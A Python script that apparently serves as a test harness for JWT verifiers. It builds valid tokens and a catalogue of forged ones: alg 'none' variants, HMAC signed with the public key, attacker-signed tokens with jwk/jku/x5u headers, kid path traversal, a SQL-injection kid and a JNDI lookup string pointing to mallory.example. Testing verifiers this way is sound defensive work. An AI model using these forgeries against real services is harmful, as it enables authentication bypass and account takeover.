"""Proofs of login by jwcrypto and cryptography: good ones, and what attackers make of them.

Reads one request a line on standard input (JSON), answers one line each, ends with its input."""

import base64
import hashlib
import hmac
import json
import sys

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from jwcrypto import jwe, jwk, jws

KEYS = {
    "rsa": jwk.JWK.generate(kty="RSA", size=2048, kid="rsa", alg="RS256", use="sig"),
    "pss": jwk.JWK.generate(kty="RSA", size=3072, kid="pss", alg="PS256"),
    "ec": jwk.JWK.generate(kty="EC", crv="P-256", kid="ec", use="sig"),
    "p384": jwk.JWK.generate(kty="EC", crv="P-384", kid="p384", key_ops=["verify"]),
    "ed": jwk.JWK.generate(kty="OKP", crv="Ed25519", kid="ed"),
    "enc": jwk.JWK.generate(kty="RSA", size=2048, kid="enc", use="enc", alg="RSA-OAEP"),
}
# Not the provider's.
MALLORY = jwk.JWK.generate(kty="EC", crv="P-256", kid="mallory")
SMALL = jwk.JWK(**{**json.loads(jwk.JWK.from_pyca(rsa.generate_private_key(65537, 1024)).export()), "kid": "small"})


def b64(data):
    return base64.urlsafe_b64encode(data if isinstance(data, bytes) else data.encode()).rstrip(b"=").decode()


def text(value):
    return value if isinstance(value, str) else json.dumps(value)


def sign(key, header, claims):
    """A compact JWS by jwcrypto."""
    alg = json.loads(text(header))["alg"]
    token = jws.JWS(text(claims))
    free = jwk.JWK(**{name: value for name, value in json.loads(key.export()).items()
                      if name in ("kty", "crv", "x", "y", "d", "n", "e", "p", "q", "dp", "dq", "qi")})
    token.allowed_algs = [alg]
    token.add_signature(free, None, text(header))
    return token.serialize(compact=True)


def raw(header, claims, signature=lambda signed: b""):
    """A token put together by hand."""
    signed = f"{b64(text(header))}.{b64(text(claims))}"
    return f"{signed}.{b64(signature(signed.encode()))}"


def good(claims):
    return sign(KEYS["ec"], {"alg": "ES256", "kid": "ec", "typ": "JWT"}, claims)


def mac(secret):
    return lambda signed: hmac.new(secret, signed, hashlib.sha256).digest()


def by_mallory(**header):
    return lambda claims: sign(MALLORY, {"alg": "ES256", "kid": "ec", **header}, claims)


def pem(name):
    return KEYS[name].export_to_pem()


def der(name):
    key = serialization.load_pem_public_key(pem(name))
    return key.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)


def serialized(compact_to):
    def make(claims):
        header, payload, signature = good(claims).split(".")
        return json.dumps(compact_to(header, payload, signature))
    return make


def encrypted(claims):
    token = jwe.JWE(good(claims), recipient=KEYS["enc"], protected={"alg": "RSA-OAEP", "enc": "A256GCM", "cty": "JWT"})
    return token.serialize(compact=True)


def with_signature(change):
    def make(claims):
        signed, signature = good(claims).rsplit(".", 1)
        return f"{signed}.{b64(change(base64.urlsafe_b64decode(signature + '==')))}"
    return make


ORDER = int("FFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551", 16)


def other_spelling(claims):
    """The same ECDSA signature with n - s for s: right too."""
    return with_signature(lambda rs: rs[:32] + (ORDER - int.from_bytes(rs[32:], "big")).to_bytes(32, "big"))(claims)


def der_signature(claims):
    key = serialization.load_pem_private_key(KEYS["ec"].export_to_pem(private_key=True, password=None), None)
    return raw({"alg": "ES256", "kid": "ec"}, claims, lambda signed: key.sign(signed, ec.ECDSA(hashes.SHA256())))


def sha1(claims):
    key = serialization.load_pem_private_key(KEYS["rsa"].export_to_pem(private_key=True, password=None), None)
    return raw({"alg": "RS256", "kid": "rsa"}, claims, lambda signed: key.sign(signed, padding.PKCS1v15(), hashes.SHA1()))


def doubled(name):
    return lambda claims: sign(KEYS["ec"], {"alg": "ES256", "kid": "ec"},
                               json.dumps(claims)[:-1] + f', "{name}": {json.dumps(claims.get(name, 1))}}}')


def respelt(change):
    return lambda claims: change(good(claims))


ES, RS = {"alg": "ES256", "kid": "ec"}, {"alg": "RS256", "kid": "rsa"}
ATTACKS = {
    **{f"alg {alg!r}": lambda claims, alg=alg: raw({"alg": alg, "kid": "ec"}, claims)
       for alg in ("none", "None", "NONE", "nOnE", "none ", "", "HS256", "ES256K", "RS1")},
    "alg null": lambda claims: raw({"alg": None, "kid": "ec"}, claims),
    "alg absent": lambda claims: raw({"kid": "ec"}, claims),
    "none with a signature": lambda claims: raw({"alg": "none", "kid": "ec"}, claims, lambda _: b"x"),
    "signature taken away": lambda claims: good(claims).rsplit(".", 1)[0] + ".",
    "last part taken away": lambda claims: good(claims).rsplit(".", 1)[0],
    "signature cut": with_signature(lambda rs: rs[:-1]),
    "HMAC with the public key (PEM)": lambda claims: raw({"alg": "HS256", "kid": "rsa"}, claims, mac(pem("rsa"))),
    "HMAC with the public key (DER)": lambda claims: raw({"alg": "HS256", "kid": "rsa"}, claims, mac(der("rsa"))),
    "HMAC with the public key (modulus)": lambda claims: raw(
        {"alg": "HS256", "kid": "rsa"}, claims, mac(base64.urlsafe_b64decode(KEYS["rsa"].get("n") + "=="))),
    "HMAC called RS256": lambda claims: raw(RS, claims, mac(pem("rsa"))),
    "another key under the provider's kid": by_mallory(),
    "embedded jwk": by_mallory(jwk=json.loads(MALLORY.export_public())),
    "jku": by_mallory(jku="https://mallory.example/jwks.json"),
    "x5u": by_mallory(x5u="file:///dev/null"),
    "x5c": by_mallory(x5c=["MIIB"]),
    "kid traversal": by_mallory(kid="../../../../../../dev/null"),
    "kid traversal with an empty HMAC key": lambda claims: raw(
        {"alg": "HS256", "kid": "../../../../dev/null"}, claims, mac(b"")),
    "kid as a query": by_mallory(kid="ec' OR '1'='1"),
    "kid as an address": by_mallory(kid="https://mallory.example/key"),
    "kid as a template": by_mallory(kid="${jndi:ldap://mallory.example/a}"),
    "kid of a kilobyte": by_mallory(kid="k" * 1024),
    "no kid": lambda claims: sign(KEYS["ec"], {"alg": "ES256"}, claims),
    "kid of the encryption key": lambda claims: sign(KEYS["enc"], {"alg": "RS256", "kid": "enc"}, claims),
    "an algorithm that is not the key's": lambda claims: sign(KEYS["rsa"], {"alg": "PS256", "kid": "rsa"}, claims),
    "an algorithm that is not allowed": lambda claims: sign(KEYS["rsa"], {"alg": "RS512", "kid": "rsa"}, claims),
    "another curve's key": lambda claims: raw({"alg": "ES256", "kid": "p384"}, claims, lambda _: b"\1" * 64),
    "another curve's signature": lambda claims: raw(
        ES, claims, lambda signed: sign(KEYS["p384"], {"alg": "ES384"}, claims).rsplit(".", 1)[1].encode()[:64]),
    "an RSA key for ECDSA": lambda claims: raw({"alg": "ES256", "kid": "rsa"}, claims, lambda _: b"\1" * 64),
    "ECDSA r = s = 0": with_signature(lambda _: bytes(64)),
    "ECDSA r = 0": with_signature(lambda rs: bytes(32) + rs[32:]),
    "ECDSA s = 0": with_signature(lambda rs: rs[:32] + bytes(32)),
    "ECDSA r = s = n": with_signature(lambda _: ORDER.to_bytes(32, "big") * 2),
    "ECDSA in DER": der_signature,
    "RSA with SHA-1": sha1,
    "small RSA": lambda claims: sign(SMALL, {"alg": "RS256", "kid": "small"}, claims),
    "JWE": encrypted,
    "JSON serialization": serialized(lambda h, p, s: {"payload": p, "signatures": [{"protected": h, "signature": s}]}),
    "flattened JSON": serialized(lambda h, p, s: {"payload": p, "protected": h, "signature": s}),
    "alg twice": lambda claims: raw('{"alg":"none","kid":"ec","alg":"ES256"}', claims),
    "alg twice, signed": lambda claims: raw('{"alg":"ES256","kid":"ec","alg":"none"}', claims),
    "sub twice": doubled("sub"),
    "a member twice by another spelling": lambda claims: sign(
        KEYS["ec"], ES, json.dumps(claims)[:-1] + ', "\\u0073ub": "autre"}'),
    "a member twice inside another": lambda claims: sign(
        KEYS["ec"], ES, json.dumps(claims)[:-1] + ', "address": [{"a": {"b": 1, "b": 2}}]}'),
    "crit": lambda claims: raw({**ES, "crit": ["exp"], "exp": 1}, claims),
    "unencoded payload": lambda claims: raw({**ES, "crit": ["b64"], "b64": False}, claims),
    "compressed": lambda claims: sign(KEYS["ec"], {**ES, "zip": "DEF"}, claims),
    "access token": lambda claims: sign(KEYS["ec"], {**ES, "typ": "at+jwt"}, claims),
    "logout token": lambda claims: sign(KEYS["ec"], {**ES, "typ": "logout+jwt"}, claims),
    "padded": respelt(lambda token: token.replace(".", "=.", 1)),
    "with a space": respelt(lambda token: token + " "),
    "with a line end": respelt(lambda token: token + "\n"),
    "with a prefix": respelt(lambda token: "Bearer " + token),
    "four parts": respelt(lambda token: token + ".e30"),
    "claims that are a list": lambda claims: sign(KEYS["ec"], ES, "[]"),
    "claims that are no JSON": lambda claims: sign(KEYS["ec"], ES, "sub=anne"),
    "claims with a byte order mark": lambda claims: sign(KEYS["ec"], ES, "\ufeff" + json.dumps(claims)),
    "oversized": lambda claims: good({**claims, "groups": "g" * 16384}),
}

for line in sys.stdin:
    asked = json.loads(line)
    match asked["do"]:
        case "jwks":
            answer = {"keys": [json.loads(key.export_public()) for key in KEYS.values()]}
        case "small":
            answer = {"keys": [json.loads(SMALL.export_public())]}
        case "secret":
            answer = {"keys": [json.loads(KEYS["ec"].export())]}
        case "sign":
            answer = sign(KEYS[asked["key"]], asked["header"], asked["claims"])
        case "respell":
            answer = other_spelling(asked["claims"])
        case "attacks":
            answer = list(ATTACKS)
        case "attack":
            answer = ATTACKS[asked["name"]](asked["claims"])
    print(json.dumps(answer), flush=True)
